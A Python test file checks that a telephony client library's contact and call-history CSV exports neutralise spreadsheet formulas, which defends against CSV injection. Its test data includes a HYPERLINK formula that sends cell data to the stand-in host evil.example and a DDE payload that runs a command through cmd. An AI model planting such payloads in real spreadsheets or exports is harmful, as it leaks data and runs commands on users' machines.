"""CSV exports keep a spreadsheet from running a cell as a formula (CSV injection, OWASP).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a ``'``
in front, unless it is only a sign and digits (a phone number such as ``+4912368712``), which
a spreadsheet reads as a number. ``neutralize_formulas=False`` writes every cell as it is.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

import sipgateio
from sipgateio import ExportScope
from tests._server import RecordingServer, Reply
from tests.contacts_history.conftest import contact_item, serve_pages

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
DDE = "=cmd|' /C calc'!A0"
DANGEROUS = [HYPERLINK, DDE, "+49 211 1234 (office)", "-2+3", "@SUM(A1:A9)", "\tTab", "\rReturn"]
HARMLESS = ["Ada Lovelace", "+4912368712", "-42", "'=already quoted", "Zoë = 1", ""]


def rows_of(document: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(document, newline=""), delimiter=delimiter))


def serve_names(server: RecordingServer, names: list[str]) -> None:
    contacts = [
        contact_item(
            f"c{index}",
            name,
            "PRIVATE",
            numbers=[{"number": "+4912368712", "type": ["cell"]}],
            emails=[{"email": "=x@example.org", "type": []}],
        )
        for index, name in enumerate(names)
    ]
    serve_pages(server, "/contacts", contacts)


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_contact_names_that_would_run_as_formulas_get_a_quote(
    client: Any, server: RecordingServer, delimiter: str
) -> None:
    serve_names(server, DANGEROUS)

    document = client.contacts.export_as_csv(ExportScope.PRIVATE, delimiter)

    names = [row[1] for row in rows_of(document, delimiter)[1:]]
    assert names == ["'" + name for name in DANGEROUS]


def test_harmless_names_and_the_json_cells_are_written_as_they_are(
    client: Any, server: RecordingServer
) -> None:
    serve_names(server, HARMLESS)

    document = client.contacts.export_as_csv(ExportScope.PRIVATE)

    rows = rows_of(document)[1:]
    assert [row[1] for row in rows] == HARMLESS
    assert {row[2] for row in rows} == {'["=x@example.org"]'}  # a list cell starts with '['
    assert {row[3] for row in rows} == {'["+4912368712"]'}


def test_neutralize_formulas_false_writes_every_cell_verbatim(
    client: Any, server: RecordingServer
) -> None:
    serve_names(server, DANGEROUS)

    document = client.contacts.export_as_csv(ExportScope.PRIVATE, neutralize_formulas=False)

    assert [row[1] for row in rows_of(document)[1:]] == DANGEROUS


def test_neutralize_formulas_must_be_a_bool(client: Any, server: RecordingServer) -> None:
    with pytest.raises(sipgateio.ValidationError) as caught:
        client.contacts.export_as_csv(ExportScope.PRIVATE, neutralize_formulas="no")

    assert caught.value.argument == "neutralize_formulas"
    assert server.requests == []


# --- the history export ----------------------------------------------------------------------

HISTORY_HEADER = "id,source,sourceAlias,target,duration,note"


def serve_history_csv(server: RecordingServer, rows: list[list[str]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(HISTORY_HEADER.split(","))
    writer.writerows(rows)
    document = out.getvalue()
    server.on(
        "GET",
        "/history/export",
        Reply(200, document.encode(), headers={"Content-Type": "text/csv; charset=utf-8"}),
    )
    return document


def test_the_history_export_quotes_a_caller_name_that_would_run(
    client: Any, server: RecordingServer
) -> None:
    serve_history_csv(
        server,
        [
            ["1", "+4912368712", DDE, "+4915799912345", "42", "call back"],
            ["2", "+4921100000", "Ada", "+4921100001", "0", "-> see ticket, urgent"],
        ],
    )

    document = client.history.export_as_csv_string()

    rows = rows_of(document)
    assert rows[0] == HISTORY_HEADER.split(",")
    assert rows[1] == ["1", "+4912368712", "'" + DDE, "+4915799912345", "42", "call back"]
    assert rows[2] == ["2", "+4921100000", "Ada", "+4921100001", "0", "'-> see ticket, urgent"]


def test_a_history_export_without_formulas_is_returned_byte_for_byte(
    client: Any, server: RecordingServer
) -> None:
    served = serve_history_csv(
        server, [["1", "+4912368712", "Ada, Countess", "+4915799912345", "42", 'a "note"']]
    )

    assert client.history.export_as_csv_string() == served


def test_the_history_export_can_keep_formulas_for_programs(
    client: Any, server: RecordingServer
) -> None:
    served = serve_history_csv(server, [["1", "+4912368712", DDE, "+4915799912345", "42", ""]])

    assert client.history.export_as_csv_string(neutralize_formulas=False) == served
